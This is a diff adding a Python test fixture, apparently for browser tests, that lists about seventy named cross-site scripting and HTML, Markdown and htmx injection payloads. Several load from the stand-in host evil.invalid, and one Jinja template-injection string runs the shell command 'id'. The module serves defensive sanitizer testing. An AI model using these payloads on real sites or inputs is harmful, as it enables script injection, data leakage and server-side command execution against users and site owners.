@@ -1,0 +1,83 @@
+"""Attacks on a page by text that stands in it, for tests: each tries to run a script, to load something, or to change the page.
+
+`heard` is the listener of `tests.browser`. A load goes to `evil.invalid`, a name that nobody has.
+"""
+
+from __future__ import annotations
+
+_RUN = "heard(`xss`)"
+_AWAY = "//evil.invalid/x"
+
+# Names how each gets in. Short ones (80 characters and less) also fit a name.
+ATTACKS: dict[str, str] = {
+    "script": f"<script>{_RUN}</script>",
+    "script from elsewhere": f"<script src={_AWAY}></script>",
+    "script in odd case": f"<ScRiPt >{_RUN}</sCrIpT\n>",
+    "script inside a script": f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
+    "script after a zero": f"<\0script>{_RUN}</script>",
+    "module": f'<script type=module>import "{_AWAY}.js"</script>',
+    "image": f"<img src=x onerror={_RUN}>",
+    "image without an end": f"<img src=x onerror={_RUN} ",
+    "image with a set": f"<img srcset={_AWAY}.png>",
+    "svg": f"<svg/onload={_RUN}>",
+    "svg that moves": f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
+    "svg with a link": f"<svg><a xlink:href=javascript:{_RUN}><text y=9>x</text></a>",
+    "svg of another": f"<svg><use href={_AWAY}#x></svg>",
+    "math": f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
+    "end of a quote": f'"><img src=x onerror={_RUN}>',
+    "end of a single quote": f"'><img src=x onerror={_RUN}>",
+    "attribute": f'" autofocus onfocus={_RUN} x="',
+    "attribute in single quotes": f"' autofocus onfocus={_RUN} x='",
+    "attribute without quotes": f"x onmouseover={_RUN} ",
+    "end of a field": f"</textarea><script>{_RUN}</script>",
+    "end of a title": f"</title><script>{_RUN}</script>",
+    "end of a style": f"</style><script>{_RUN}</script>",
+    "end of a script": f"</script><script>{_RUN}</script>",
+    "end of a comment": f"--><script>{_RUN}</script><!--",
+    "end of data": f"]]><script>{_RUN}</script>",
+    "end of JSON": f'"}}</script><script>{_RUN}</script>',
+    "field that takes the focus": f"<input autofocus onfocus={_RUN}>",
+    "details": f"<details open ontoggle={_RUN}>x</details>",
+    "body": f"<body onload={_RUN}>",
+    "frame": f"<iframe src=javascript:parent.{_RUN}></iframe>",
+    "frame with a page": f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
+    "object": f"<object data={_AWAY}></object>",
+    "embed": f"<embed src={_AWAY}>",
+    "video": f"<video><source onerror={_RUN}></video>",
+    "marquee": f"<marquee onstart={_RUN}>x</marquee>",
+    "style": f"<style>@import '{_AWAY}.css'; body {{display:none}}</style>",
+    "style of an element": f"<p style='background:url({_AWAY});position:fixed;inset:0'>x</p>",
+    "style sheet": f"<link rel=stylesheet href={_AWAY}.css>",
+    "prefetch": f"<link rel=prefetch href={_AWAY}>",
+    "refresh": f"<meta http-equiv=refresh content='0;url=http:{_AWAY}'>",
+    "base": f"<base href=http:{_AWAY}/>",
+    "form": f"<form action=http:{_AWAY} id=f><button>Confirm</button></form>",
+    "button of another form": f"<button formaction=http:{_AWAY} form=f>x</button>",
+    "htmx": f"<b hx-get=http:{_AWAY} hx-trigger=load>x</b>",
+    "htmx script": f"<b hx-on:load='{_RUN}' data-hx-on:load='{_RUN}'>x</b>",
+    "htmx stream": f"<b hx-sse:connect=http:{_AWAY}>x</b>",
+    "htmx swap": f"<hx-partial hx-target=body><script>{_RUN}</script></hx-partial>",
+    "stream's line": f"x\n\nevent: run\ndata: <script>{_RUN}</script>\n\n",
+    "stream's line in CR": f"x\r\rdata: <script>{_RUN}</script>\r\r",
+    "link in Markdown": f"[press](javascript:{_RUN})",
+    "link in Markdown with a tab": f"[press](java\tscript:{_RUN})",
+    "link in Markdown by entities": f"[press](&#106;avascript:{_RUN})",
+    "link in angles": f"<javascript:{_RUN}>",
+    "link by reference": f"[press][r]\n\n[r]: javascript:{_RUN}",
+    "data in Markdown": f"[press](data:text/html,<script>{_RUN}</script>)",
+    "image in Markdown": f"![x](http:{_AWAY}.png)",
+    "image's title in Markdown": f"![x](x \"a' onerror={_RUN} 'b\")",
+    "fence's language": f'```x"><img src=x onerror={_RUN}>\nx\n```',
+    "table in Markdown": f"| <img src=x onerror={_RUN}> |\n|---|\n| x |",
+    "entities": "&lt;script&gt;heard(1)&lt;/script&gt;",
+    "numbers": "&#60;script&#62;heard(1)&#60;/script&#62;",
+    "escapes": "\\u003cscript\\u003eheard(1)\\u003c/script\\u003e",
+    "full width": "＜script＞heard(1)＜/script＞",
+    "UTF-7": "+ADw-script+AD4-heard(1)+ADw-/script+AD4-",
+    "template": "{{ cycler.__init__.__globals__.os.popen('id').read() }}{% raw %}",
+    "percent": "%3Cscript%3Eheard(1)%3C/script%3E",
+    "reversed": f"\u202e<img src=x onerror={_RUN}>\u202c",
+    "terminal": f"\x1b]8;;javascript:{_RUN}\x07x\x1b]8;;\x07",
+}
+SHORT = {name: text for name, text in ATTACKS.items() if len(text) <= 80 and text.isprintable()}
+WHOLE = "\n\n".join(f"{number}. {name}: {text}" for number, (name, text) in enumerate(ATTACKS.items(), 1))
